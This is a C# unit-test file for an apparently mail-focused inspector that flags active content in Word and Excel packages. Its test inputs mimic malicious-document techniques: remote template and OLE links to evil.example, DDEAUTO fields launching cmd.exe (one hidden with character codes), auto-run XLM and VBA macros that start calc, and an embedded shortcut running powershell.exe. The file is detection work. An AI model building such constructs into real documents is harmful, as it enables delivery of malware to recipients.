using System.Text;
using Weir.Mail.Tests.Support;

namespace Weir.Mail.Tests.Inspection.Readers;

public sealed class OfficePackageTests
{
    private const string Empty = "<w:document xmlns:w='w'><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:document>";

    [Theory]
    [InlineData("attachedTemplate", "https://evil.example/t.dotm", "external-template")]
    [InlineData("oleObject", "https://evil.example/o.doc", "external-object")]
    [InlineData("frame", @"\\evil.example\share\f.htm", "external-object")]
    [InlineData("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html", "external-object")]
    [InlineData("hyperlink", "https://evil.example/", "")]
    [InlineData("attachedTemplate", "file:///C:/Users/ann/Normal.dotm", "")]
    [InlineData("image", "https://pictures.example/a.png", "")]
    public void What_a_document_loads_from_elsewhere_is_told(string type, string target, string feature) =>
        Assert.Equal(feature, Inspected.Features("a.docx", ActiveFiles.Package(("word/document.xml", Empty), ("word/_rels/document.xml.rels", Relationship(type, target)))));

    [Fact]
    public void Hyperlinks_and_addresses_in_the_text_are_listed()
    {
        var docx = ActiveFiles.Package(
            ("word/document.xml", "<w:document xmlns:w='w' xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'><w:p><w:r><w:t>see https://split.</w:t></w:r><w:r><w:t>example/a</w:t></w:r></w:p></w:document>"),
            ("word/_rels/document.xml.rels", Relationship("hyperlink", "https://link.example/x")));

        Assert.Equal(["https://link.example/x", "https://split.example/a"], Inspected.Urls("a.docx", docx).Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData("<w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'/>")]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>")]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79 32 99</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>")]
    public void A_field_that_starts_a_program_is_told(string field) =>
        Assert.Equal("dde", Inspected.Features("a.docx", ActiveFiles.Package(("word/document.xml", $"<w:document xmlns:w='w'><w:p>{field}</w:p></w:document>"))));

    [Fact]
    public void A_link_of_a_workbook_to_a_program_is_told() =>
        Assert.Equal("dde", Inspected.Features("a.xlsx", ActiveFiles.Package(("xl/workbook.xml", "<workbook/>"), ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"))));

    [Fact]
    public void A_sheet_of_old_macros_is_told() =>
        Assert.Equal(
            "xlm-auto-run xlm-macro xlm-runs-program",
            Inspected.Features("a.xlsm", ActiveFiles.Package(("xl/workbook.xml", "<workbook><definedNames><definedName name='_xlnm.Auto_Open'>Macro1!$A$1</definedName></definedNames></workbook>"), ("xl/macrosheets/sheet1.xml", "<macrosheet><c><f>EXEC(\"calc\")</f></c></macrosheet>"))));

    [Fact]
    public void A_macro_project_inside_is_read() =>
        Assert.Equal(
            "vba-auto-run vba-macro vba-runs-program",
            Inspected.Features("a.docm", ActiveFiles.Package(("word/document.xml", Encoding.UTF8.GetBytes(Empty)), ("word/vbaProject.bin", CompoundFileWriter.Write(ActiveFiles.Vba("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n", "VBA/"))))));

    [Fact]
    public void A_macro_project_that_cannot_be_read_is_told() =>
        Assert.Equal("vba-unreadable", Inspected.Features("a.docm", ActiveFiles.Package(("word/document.xml", Encoding.UTF8.GetBytes(Empty)), ("word/vbaProject.bin", new byte[600]))));

    [Fact]
    public void An_embedded_file_is_told_and_read() =>
        Assert.Equal(
            "embedded-object lnk-runs-script lnk-target",
            Inspected.Features("a.docx", ActiveFiles.Package(("word/document.xml", Encoding.UTF8.GetBytes(Empty)), ("word/embeddings/oleObject1.bin", CompoundFileWriter.Write(("\u0001Ole10Native", ActiveFiles.Native("a.lnk", ActiveFiles.Lnk("powershell.exe", "-c 1"))))))));

    [Fact]
    public void A_plain_document_says_nothing() => Assert.Equal("", Inspected.Features("a.docx", ActiveFiles.Package(("word/document.xml", Empty))));

    [Fact]
    public void Broken_XML_is_told() => Assert.Contains("no valid XML", Inspected.File("a.docx", ActiveFiles.Package(("word/document.xml", "<w:document><w:p>")))[0].NotRead, StringComparison.Ordinal);

    private static string Relationship(string type, string target) =>
        $"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}' Target='{target}' TargetMode='External'/></Relationships>";
}
